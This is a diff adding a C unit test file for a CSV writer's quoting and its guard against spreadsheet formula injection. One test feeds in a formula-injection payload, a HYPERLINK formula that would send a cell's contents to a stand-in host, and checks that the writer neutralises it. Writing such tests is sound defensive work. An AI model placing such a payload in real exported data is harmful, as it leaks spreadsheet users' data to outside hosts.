@@ -1,0 +1,92 @@
+/* test_csv.c: CSV fields and records (src/csv.c), and the formula guard. */
+#include "testutil.h"
+
+#include "plantrack/csv.h"
+
+static int setup(void **state)
+{
+	struct capture *c = calloc(1, sizeof(*c));
+
+	assert_non_null(c);
+	cap_open(c);
+	*state = c;
+	return 0;
+}
+
+static int teardown(void **state)
+{
+	struct capture *c = *state;
+
+	cap_free(c);
+	free(c);
+	return 0;
+}
+
+static void check_field(void **state, const char *in, const char *want)
+{
+	struct capture *c = *state;
+
+	cap_free(c);
+	cap_open(c);
+	csv_put_field(c->f, in);
+	assert_string_equal(cap_close(c), want);
+}
+
+static void plain_fields(void **state)
+{
+	check_field(state, "Đã rà soát 12 thủ tục", "Đã rà soát 12 thủ tục");
+	check_field(state, "", "");
+	check_field(state, NULL, "");
+	check_field(state, "2026-06-30", "2026-06-30");
+	check_field(state, "100", "100");
+	/* Inside a field, the guard's characters are harmless. */
+	check_field(state, "a=b+c-d@e", "a=b+c-d@e");
+}
+
+static void quoted_fields(void **state)
+{
+	check_field(state, "a,b", "\"a,b\"");
+	check_field(state, "say \"x\"", "\"say \"\"x\"\"\"");
+	check_field(state, "one\ntwo", "\"one\ntwo\"");
+	check_field(state, "one\r\ntwo", "\"one\r\ntwo\"");
+}
+
+/* The attack: a result that Excel would run as a formula. */
+static void formulas_are_text(void **state)
+{
+	check_field(state, "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
+		    "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\")\"");
+	check_field(state, "=1+1", "'=1+1");
+	check_field(state, "+84 912", "'+84 912");
+	check_field(state, "-5% chi phí", "'-5% chi phí");
+	check_field(state, "@SUM(A1:A9)", "'@SUM(A1:A9)");
+	check_field(state, "\t=1+1", "'\t=1+1");
+	check_field(state, "\r=1+1", "\"'\r=1+1\"");
+	/* Quoting and the guard together. */
+	check_field(state, "=a,b", "\"'=a,b\"");
+	check_field(state, "'=already", "'=already");
+}
+
+static void records(void **state)
+{
+	static const char *const fields[] = { "Nhóm", "=x", NULL, "a,b" };
+	struct capture *c = *state;
+
+	csv_put_record(c->f, fields, 4);
+	csv_put_record(c->f, fields, 1);
+	assert_string_equal(cap_close(c), "Nhóm,'=x,,\"a,b\"\r\nNhóm\r\n");
+}
+
+int main(void)
+{
+#define T(f) cmocka_unit_test_setup_teardown(f, setup, teardown)
+	const struct CMUnitTest tests[] = {
+		T(plain_fields),
+		T(quoted_fields),
+		T(formulas_are_text),
+		T(records),
+	};
+#undef T
+
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
